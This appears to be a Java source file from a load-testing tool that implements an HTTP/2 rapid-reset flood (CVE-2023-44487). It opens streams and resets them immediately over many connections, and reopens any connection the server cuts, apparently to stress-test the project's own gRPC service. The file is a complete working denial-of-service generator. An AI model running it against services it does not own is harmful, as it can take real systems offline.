package io.trilane.loadtest.faults.http2;

import io.netty.buffer.ByteBuf;
import io.netty.channel.ChannelHandlerContext;
import io.netty.channel.SimpleChannelInboundHandler;
import io.netty.handler.codec.http2.DefaultHttp2FrameWriter;
import io.netty.handler.codec.http2.Http2CodecUtil;
import io.netty.handler.codec.http2.Http2Error;
import io.netty.handler.codec.http2.Http2FrameWriter;
import io.netty.handler.codec.http2.Http2Headers;
import io.netty.handler.codec.http2.Http2Settings;
import io.trilane.client.rpc.Target;
import java.util.concurrent.atomic.LongAdder;

/// Opens streams and resets them at once, as fast as the connections take it: rapid reset,
/// CVE-2023-44487. A connection that the server cuts is opened anew.
public final class ResetFlood implements AutoCloseable {
  private static final int AT_A_TIME = 100;

  private final LongAdder resets = new LongAdder();
  private final Http2Headers headers;
  private final RawConnections connections;

  private ResetFlood(Target target) {
    headers = GrpcHeaders.of(target, "trilane.v1.WorkService/Perform");
    connections = new RawConnections(target, Pour::new);
  }

  /// Starts it; it goes on until it is closed.
  public static ResetFlood start(Target target, int connections) {
    var flood = new ResetFlood(target);
    for (int i = 0; i < connections; i++) {
      flood.connections.keepOpen();
    }
    return flood;
  }

  /// How many streams have been opened and reset so far.
  public long resets() {
    return resets.sum();
  }

  /// How many connections the server has cut so far.
  public long cut() {
    return connections.cut();
  }

  @Override
  public void close() {
    connections.close();
  }

  /// One connection. Belongs to its event loop.
  private final class Pour extends SimpleChannelInboundHandler<ByteBuf> {
    private final Http2FrameWriter frames = new DefaultHttp2FrameWriter();
    private int stream = 1;

    @Override
    public void channelActive(ChannelHandlerContext connection) {
      var _ = connection.write(Http2CodecUtil.connectionPrefaceBuf());
      var _ =
          frames.writeSettings(
              connection, Http2Settings.defaultSettings(), connection.newPromise());
      pour(connection);
    }

    @Override
    public void channelWritabilityChanged(ChannelHandlerContext connection) {
      if (connection.channel().isWritable()) {
        pour(connection);
      }
    }

    @Override
    protected void channelRead0(ChannelHandlerContext connection, ByteBuf nobodyReads) {}

    @Override
    public void exceptionCaught(ChannelHandlerContext connection, Throwable lost) {
      var _ = connection.close();
    }

    @Override
    public void channelInactive(ChannelHandlerContext connection) {
      frames.close();
    }

    private void pour(ChannelHandlerContext connection) {
      for (int i = 0; i < AT_A_TIME && connection.channel().isWritable(); i++, stream += 2) {
        var _ = frames.writeHeaders(connection, stream, headers, 0, false, connection.newPromise());
        var _ =
            frames.writeRstStream(
                connection, stream, Http2Error.CANCEL.code(), connection.newPromise());
        resets.increment();
      }
      connection.flush();
      if (connection.channel().isWritable() && connection.channel().isActive()) {
        connection.executor().execute(() -> pour(connection));
      }
    }
  }
}
